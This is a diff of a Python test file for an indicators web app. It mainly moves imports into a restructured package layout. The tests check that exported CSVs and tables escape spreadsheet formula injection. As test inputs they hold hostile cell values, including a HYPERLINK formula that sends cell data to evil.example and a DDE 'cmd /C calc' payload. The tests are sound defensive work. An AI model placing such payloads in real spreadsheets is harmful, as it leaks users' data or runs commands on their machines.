@@ -14,11 +14,11 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from indicators import auth
-from indicators.auth import SignInRefused
+from indicators.domain.plain import formula_safe, formula_unsafe, html, md
 from indicators.imports import ConflictError
 from indicators.imports.table import Limits
-from indicators.plain import formula_safe, formula_unsafe, html, md
+from indicators.services import auth
+from indicators.services.auth import SignInRefused
 from tests.conftest import PASSWORD, REPO
 from tests.test_import import HT, commit, csv_file, preview, stored
 
@@ -55,7 +55,7 @@ def test_plotly_text_is_escaped_and_formula_escapes_are_exactly_reversible():
 
 
 def test_charts_carry_hostile_text_only_escaped(ds):
-    from indicators import charts, views
+    from indicators.services import charts, views
 
     series = views.province_series(ds, (HT,), "papi_total", "vi").copy()
     series["source"] = HOSTILE
@@ -224,13 +224,13 @@ def test_non_ascii_digits_are_refused_with_row_and_column(engine, value):
 
 
 def test_exported_formula_escapes_import_back_exactly(engine):
-    from indicators.exporting import to_csv
+    from indicators.services.exporting import to_csv
 
     texts = ["=HYPERLINK(\"https://evil.example\")", "'=already quoted", "+1 cmd", "plain 'quote"]
     quoted = ['"' + t.replace('"', '""') + '"' for t in texts]
     commit(engine, preview(engine, "a.csv", csv_file(*[f"Hà Tĩnh,sipas,{2018 + i},{70 + i},{q}"
                                                        for i, q in enumerate(quoted)])))
-    from indicators.cli import EXPORT_COLUMNS
+    from indicators.cli.main import EXPORT_COLUMNS
 
     exported = to_csv(engine.actuals()[EXPORT_COLUMNS["actuals"]])
     assert "'=HYPERLINK" in exported
@@ -240,7 +240,7 @@ def test_exported_formula_escapes_import_back_exactly(engine):
 
 
 def test_tables_hold_formula_escaped_text_for_the_toolbar_download():
-    from indicators.exporting import safe_frame
+    from indicators.services.exporting import safe_frame
 
     frame = pd.DataFrame({"a": ['=HYPERLINK("https://evil.example/?d="&A1,"x")', "+1+cmd|' /C calc'!A0", "@SUM(1)",
                                 "ok"], "n": [1, 2, 3, 4]})
@@ -317,7 +317,7 @@ def test_a_damaged_database_is_named_and_a_read_never_writes(tmp_path):
 
 
 def test_new_passwords_are_asked_twice_in_a_terminal(engine, monkeypatch, capsys):
-    from indicators import cli as command
+    from indicators.cli import main as command
 
     answers = iter(["first password 1", "first password 2"])
     monkeypatch.setattr(command.getpass, "getpass", lambda prompt="": next(answers))
@@ -345,7 +345,7 @@ def tiny_disk(tmp_path):
 
 
 def test_a_backup_onto_a_full_disk_says_so_and_leaves_no_partial_file(engine, tiny_disk):
-    from indicators.auth import backup_database
+    from indicators.services.auth import backup_database
     from indicators.storage import BackupFailed
     from tests.conftest import PG
 
@@ -410,7 +410,7 @@ def test_vietnamese_order_comes_from_duckdb_not_a_compiled_library():
 
 
 def test_menu_icons_are_material_symbols_not_emoji():
-    from indicators.ui import PAGES
+    from indicators.web.ui import PAGES
 
     assert PAGES and all(icon.startswith(":material/") for _, _, icon, _ in PAGES)
     assert ':material/' in (REPO / "app.py").read_text()
@@ -419,7 +419,7 @@ def test_menu_icons_are_material_symbols_not_emoji():
 def test_the_browser_token_is_the_same_under_every_mask_and_differs_between_browsers():
     import secrets
 
-    from indicators.ui import token_digest
+    from indicators.web.ui import token_digest
 
     def cookie(token: bytes) -> str:
         mask = secrets.token_bytes(4)
